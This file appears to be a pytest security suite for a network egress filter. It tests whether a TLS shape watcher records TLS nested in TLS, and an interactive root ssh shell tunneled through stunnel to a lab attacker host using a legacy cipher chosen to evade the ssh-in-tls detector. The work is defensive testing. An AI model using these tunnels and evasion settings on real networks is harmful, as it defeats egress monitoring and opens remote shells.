"""TLS that a network rule passes with a bound name, run for real (issue 9, point 4): TLS carrying TLS (curl's
HTTPS inside a stunnel tunnel) and TLS carrying an interactive shell (an ssh session typed key by key inside
stunnel, with a legacy MAC-then-encrypt cipher whose packet sizes the ``ssh-in-tls`` shape does not see). The
front's shape watcher (egress/detect/tlsshape.py) records both (`tlsshape.SUSPECTED`: ordinary TLS can take these
shapes, so they are recorded, never blocked). Judged by the record in the lab's Redis; the attacker's side shows
that the goal was reached (recorded, not stopped: docs/security.md, "Opaque streams")."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator

import pytest

from egress.record.schema import AttemptRecord
from tests.security.conftest import LabFactory
from tests.security.harness import SecurityLab, report
from tests.security.opaque_kit import ATTACK, POLICY, SSH_OPTIONS, Kit, start_servers, stunnel_client

pytestmark = pytest.mark.security

OUTER = 8450
"""The attacker's TLS endpoint on the network rule's address that unwraps to a second TLS server (TLS in TLS)."""
SSH_TLS = 8443
"""opaque_kit's stunnel → sshd."""


@pytest.fixture(scope="module")
def shapes(lab_factory: LabFactory, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SecurityLab, Kit]]:
    source = POLICY.read_text()
    anchor = "ports: [8443, 8444, 8445, 8447, 8448, 8449, 8080]}"
    assert anchor in source
    policy = tmp_path_factory.mktemp("shapes") / "shapes-policy.yaml"
    policy.write_text(source.replace(anchor, anchor.replace("8080]", f"8080, {OUTER}]")))
    lab = lab_factory(policy)
    lab.sandbox(["dig", "+short", "@10.203.1.1", "ssh.lab"])  # binds ssh.lab -> 198.18.10.7 for this sandbox
    kit = start_servers(lab)
    conf = kit.root / "stunnel-nested.conf"
    conf.write_text(
        "foreground = yes\npid =\ndebug = info\n"
        f"[outer]\naccept = {ATTACK}:{OUTER}\nconnect = 127.0.0.1:8452\ncert = {kit.cert}\nkey = {kit.key}\n"
        f"[inner]\naccept = 127.0.0.1:8452\nconnect = 127.0.0.1:8081\ncert = {kit.cert}\nkey = {kit.key}\n"
    )
    lab.attacker("stunnel-nested", ["stunnel4", str(conf)]).wait_for("Configuration successful")
    yield lab, kit


def _shape_record(port: int, protocol: str) -> Callable[[list[AttemptRecord]], bool]:
    def check(records: list[AttemptRecord]) -> bool:
        return any(r.dst == ATTACK and r.dport == port and r.protocol == protocol for r in records)

    return check


def test_tls_inside_tls_with_a_bound_name_is_recorded(shapes: tuple[SecurityLab, Kit]) -> None:
    """curl speaks HTTPS to a local stunnel that wraps it again, to the attacker's TLS endpoint that unwraps the
    outer layer and hands the inner TLS to a second TLS server: the inner handshake's bursts show."""
    lab, kit = shapes
    client = stunnel_client(lab, kit, "nested", 6200, f"{ATTACK}:{OUTER}", "ssh.lab")
    since = time.time()
    with lab.capture("tls-in-tls") as capture:
        argv = ["curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "10"]
        done = lab.sandbox([*argv, "https://127.0.0.1:6200/"], timeout=20)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = done.stdout.strip() in {"200", "404"}  # the attacker's inner HTTPS server answered
    found = lab.records_until(since, _shape_record(OUTER, "tls-in-tls"))
    record = next(r for r in found if r.dport == OUTER and r.protocol == "tls-in-tls")
    report("opaque/tls-in-tls-bound-sni", "tunnel", crossed.bytes_to(ATTACK, OUTER, "tcp"), goal,
           f"{record.reason}/{record.protocol}", "recorded, not blocked (ordinary TLS can take the shape)")  # fmt: skip
    assert (str(record.reason), str(record.action)) == ("tunnel", "record"), record
    assert goal, done


SHELL = r"""
import os, select, subprocess, sys, time
shell = subprocess.Popen(sys.argv[1:], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
seen = b""
def read_until(marker, seconds):
    global seen
    deadline = time.monotonic() + seconds
    while marker not in seen and time.monotonic() < deadline:
        ready, _, _ = select.select([shell.stdout], [], [], 0.2)
        if ready:
            chunk = os.read(shell.stdout.fileno(), 4096)
            if not chunk:
                break
            seen += chunk
    return marker in seen
read_until(b"#", 20)
for key in b"echo typed-$((6*7))\n":  # a person at a keyboard: one key at a time, each echoed by the pty
    shell.stdin.write(bytes((key,))); shell.stdin.flush()
    time.sleep(0.08)
print("shell", "answered" if read_until(b"typed-42", 10) else "silent", flush=True)
print(seen[-400:].decode(errors="replace"), flush=True)
shell.kill()
"""


def test_an_interactive_shell_inside_tls_with_a_bound_name_is_recorded(shapes: tuple[SecurityLab, Kit]) -> None:
    """An ssh session with a terminal, typed key by key, inside stunnel with a bound name. A legacy cipher and MAC
    (aes128-ctr, hmac-sha2-256: MAC-then-encrypt, packets 0 mod 16) hide SSH's packet sizes from ``ssh-in-tls``,
    so the shell opens; the keystrokes and their echoes are what the watcher sees."""
    lab, kit = shapes
    client = stunnel_client(lab, kit, "shell", 6201, f"{ATTACK}:{SSH_TLS}", "ssh.lab")
    ssh = ["ssh", *SSH_OPTIONS, "-tt", "-c", "aes128-ctr", "-m", "hmac-sha2-256", "-i", str(kit.user_key),
           "-p", "6201", "root@127.0.0.1"]  # fmt: skip
    since = time.time()
    with lab.capture("shell-in-tls") as capture:
        done = lab.sandbox_python(SHELL, *ssh, timeout=60)
    client.stop()
    crossed = capture.result
    assert crossed is not None
    goal = "shell answered" in done.stdout
    found = lab.records_until(since, _shape_record(SSH_TLS, "interactive-shell"))
    record = next(r for r in found if r.dport == SSH_TLS and r.protocol == "interactive-shell")
    report("opaque/interactive-shell-in-tls-bound-sni", "tunnel", crossed.bytes_to(ATTACK, SSH_TLS, "tcp"), goal,
           f"{record.reason}/{record.protocol}", "recorded, not blocked (a poller can take the shape)")  # fmt: skip
    assert (str(record.reason), str(record.action)) == ("tunnel", "record"), record
    assert goal, done.stdout
